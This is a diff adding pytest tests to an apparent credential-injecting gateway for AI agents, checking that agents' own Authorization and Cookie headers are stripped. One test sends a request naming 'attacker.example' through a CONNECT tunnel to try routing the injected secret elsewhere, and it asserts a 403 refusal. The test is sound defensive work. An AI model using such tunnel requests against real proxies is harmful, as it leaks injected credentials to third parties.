@@ -19,6 +19,7 @@ import httpx
 import pytest
 import trustme
 
+from tests.e2e import assert_refusal
 from tests.standins import (
     EchoApi,
     GitHubServer,
@@ -31,6 +32,7 @@ from tests.standins import (
     spellings,
 )
 from tests.support import AUDIENCE, ISSUER, WORKLOAD, Gateway, Keys, free_port
+from tests.wire import Tunnel, request_bytes
 
 ENV_VALUE = canary("env")
 QUERY_VALUE = canary("query")
@@ -188,6 +190,47 @@ def test_query_parameter_injection_replaces_the_agents(world: World) -> None:
     assert QUERY_VALUE not in r.text
     rec = world.gw.records_for(r.headers["x-taskgate-request-id"])[0]
     assert QUERY_VALUE not in rec["path"]
+
+
+def test_the_agents_own_credentials_are_stripped_on_query_injection(world: World) -> None:
+    """The secret goes in the query; the agent's Authorization and Cookie are its own
+    credentials and never reach the upstream beside it."""
+    r = get(world, world.https("/query/echo?x=1"),
+            headers={"Authorization": "Bearer agent-own-2", "Cookie": "session=agent-own-3"})
+    assert r.status_code == 200, r.text
+    seen = last_seen(world)
+    assert seen["query_string"] == f"x=1&api_key={QUERY_VALUE}", seen["query_string"]
+    assert seen["authorization"] == []
+    assert "agent-own" not in str(seen["headers"])
+    assert "cookie" not in {k.lower() for k in seen["headers"]}
+
+
+def test_the_agents_own_credentials_are_stripped_on_header_injection(world: World) -> None:
+    r = get(world, world.https("/env/echo?x=1&access_token=agent-own-4&access%5Ftoken=again"),
+            headers={"Cookie": "session=agent-own-5"})
+    assert r.status_code == 200, r.text
+    seen = last_seen(world)
+    assert seen["authorization"] == [f"Bearer {ENV_VALUE}"]
+    assert seen["query_string"] == "x=1", seen["query_string"]
+    assert "agent-own" not in str(seen["headers"])
+
+
+def test_absolute_url_in_tunnel_never_carries_the_secret(world: World) -> None:
+    """Inside a tunnel to the rule's host, a request line naming another host would take
+    the injected secret to whoever the upstream (or a CDN in front of it) routes it to."""
+    target = f"localhost:{world.api.https_port}"
+    before = len(world.api.seen)
+    with Tunnel(world.gw.proxy_port, target, world.token) as t:
+        t.start_tls(world.gw.ca, "localhost")
+        reply = t.request(request_bytes("GET", "https://attacker.example/env/echo", target,
+                                        None))
+        ok = t.request(request_bytes("GET", f"https://{target}/env/echo", target, None))
+    RECEIVED.append(reply.body + ok.body)
+    assert_refusal(reply.status, reply.headers, reply.body, 403, "CONNECT target")
+    assert ok.status == 200, ok.body
+    assert len(world.api.seen) == before + 1
+    assert world.api.seen[-1]["path"] == "/env/echo"
+    assert world.api.seen[-1]["authorization"] == [f"Bearer {ENV_VALUE}"]
 
 
 def test_basic_auth_injection(world: World) -> None:
